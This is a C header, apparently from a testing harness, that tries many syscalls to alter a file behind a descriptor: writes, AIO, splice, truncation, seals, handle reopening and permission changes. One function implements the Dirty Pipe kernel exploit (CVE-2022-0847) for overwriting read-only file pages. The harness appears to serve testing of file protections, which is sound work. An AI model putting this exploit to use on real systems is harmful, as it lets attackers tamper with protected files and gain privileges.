/*
 * by_descriptor.h - roads that begin at a descriptor of the object.
 */
#ifndef BY_DESCRIPTOR_H
#define BY_DESCRIPTOR_H

#include "target.h"

#include <linux/aio_abi.h>
#include <sys/sendfile.h>

static int by_pwrite(void)
{
        struct iovec vector = vector_of_it();

        return both(write_spot(target.fd), outcome(pwritev2(target.fd, &vector, 1, SPOT, 0)));
}

static int by_write(void)
{
        return outcome(lseek(target.fd, SPOT, SEEK_SET) < 0 ? -1 : write(target.fd, target.byte, 1));
}

static int by_appending(void)
{
        struct iovec vector = vector_of_it();

        return outcome(pwritev2(target.fd, &vector, 1, -1, RWF_APPEND));
}

static int by_aio(void)
{
        aio_context_t context = 0;
        struct iocb block, *blocks = &block;
        struct io_event event;

        if (syscall(SYS_io_setup, 1, &context) < 0)
                return UNTRIED;
        memset(&block, 0, sizeof(block));
        block.aio_fildes = (uint32_t)target.fd;
        block.aio_lio_opcode = IOCB_CMD_PWRITE;
        block.aio_buf = (uint64_t)(uintptr_t)target.byte;
        block.aio_nbytes = 1;
        block.aio_offset = SPOT;
        if (syscall(SYS_io_submit, context, 1, &blocks) < 0)
                return -errno;
        NEED(syscall(SYS_io_getevents, context, 1, 1, &event, NULL) == 1);
        return event.res < 0 ? (int)event.res : 0;
}

static int by_splice(void)
{
        loff_t at = SPOT;
        int ends[2];

        pipe_of_it(ends);
        return outcome(splice(ends[0], NULL, target.fd, &at, 1, 0));
}

/* A file of the same file system as the object, which copy_file_range(2) needs. */
static int source(void)
{
        int other = *target.path ? open("/dev/shm", O_TMPFILE | O_RDWR, 0600) : memfd_create("source", MFD_CLOEXEC);

        NEED(other >= 0 && write(other, target.byte, 1) == 1 && lseek(other, 0, SEEK_SET) == 0);
        return other;
}

static int by_sendfile(void)
{
        return outcome(lseek(target.fd, SPOT, SEEK_SET) < 0 ? -1 : sendfile(target.fd, source(), NULL, 1));
}

static int by_copy_file_range(void)
{
        loff_t from = 0, to = SPOT;

        return outcome(copy_file_range(source(), &from, target.fd, &to, 1, 0));
}

/* A page of the object in a pipe, and then bytes into that pipe (CVE-2022-0847). */
static int by_the_page_in_a_pipe(void)
{
        char bytes[4096] = {0};
        loff_t at = SPOT;
        int ends[2], i;

        NEED(pipe(ends) == 0 && fcntl(ends[1], F_SETPIPE_SZ, 4 * 4096) > 0);
        for (i = 0; i < 4; i++)
                NEED(write(ends[1], bytes, sizeof(bytes)) == sizeof(bytes));
        for (i = 0; i < 4; i++)
                NEED(read(ends[0], bytes, sizeof(bytes)) == sizeof(bytes));
        if (splice(target.fd, &at, ends[1], NULL, 1, 0) < 0)
                return -errno;
        NEED(write(ends[1], target.byte, 1) == 1);
        return PRIVATE;
}

static int by_shrinking(void)
{
        return both(outcome(ftruncate(target.fd, (off_t)target.size / 2)), outcome(ftruncate(target.fd, 0)));
}

static int by_growing(void)
{
        return both(outcome(ftruncate(target.fd, (off_t)target.size * 2)),
                    outcome(fallocate(target.fd, 0, (off_t)target.size, 4096)));
}

static int by_holes(void)
{
        static const int modes[] = {FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, FALLOC_FL_ZERO_RANGE,
                                    FALLOC_FL_COLLAPSE_RANGE, FALLOC_FL_INSERT_RANGE, FALLOC_FL_UNSHARE_RANGE};
        int first = 0;
        size_t i;

        for (i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
                if (fallocate(target.fd, modes[i], HOLE, 4096) == 0)
                        return 0;
                if (i == 0)
                        first = -errno;
        }
        return first;
}

static int by_seals(void)
{
        return both(outcome(fcntl(target.fd, F_ADD_SEALS, F_SEAL_WRITE)), outcome(fcntl(target.fd, F_ADD_SEALS, F_SEAL_GROW)));
}

static int by_reopening(void)
{
        return use(reopen(0, target.fd, O_RDWR));
}

static int by_opening_to_truncate(void)
{
        char path[64];

        path_of(path, sizeof(path), 0, target.fd);
        return both(outcome(open(path, O_RDWR | O_TRUNC)), outcome(truncate(path, 0)));
}

static int by_handle(void)
{
        union {
                struct file_handle handle;
                char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
        } space;
        int mount;

        space.handle.handle_bytes = MAX_HANDLE_SZ;
        if (name_to_handle_at(target.fd, "", &space.handle, &mount, AT_EMPTY_PATH) < 0)
                return -errno;
        return use(open_by_handle_at(target.fd, &space.handle, O_RDWR));
}

/* What the mode lets nobody do, the mode could be changed to allow. */
static int by_mode(void)
{
        struct stat status;
        int result;

        NEED(fstat(target.fd, &status) == 0);
        if (fchmod(target.fd, 0666) < 0)
                return -errno;
        result = by_reopening();
        NEED(fchmod(target.fd, status.st_mode & 07777) == 0);
        return result;
}

static int by_owner(void)
{
        struct stat status;
        int result;

        NEED(fstat(target.fd, &status) == 0);
        if (fchown(target.fd, getuid() ? getuid() : 1, (gid_t)-1) < 0)
                return -errno;
        result = by_reopening();
        if (fchown(target.fd, status.st_uid, (gid_t)-1) < 0 || fchmod(target.fd, status.st_mode & 07777) < 0)
                return 0; /* it stays changed */
        return result;
}

/* What lies there under its name, and the name itself. */
static int by_name(void)
{
        char other[300];
        int moved;

        if (!*target.path)
                return UNTRIED;
        snprintf(other, sizeof(other), "%s-moved", target.path);
        moved = outcome(rename(target.path, other));
        if (moved == 0)
                NEED(rename(other, target.path) == 0);
        return both(outcome(truncate(target.path, 0)), moved);
}

#endif /* BY_DESCRIPTOR_H */
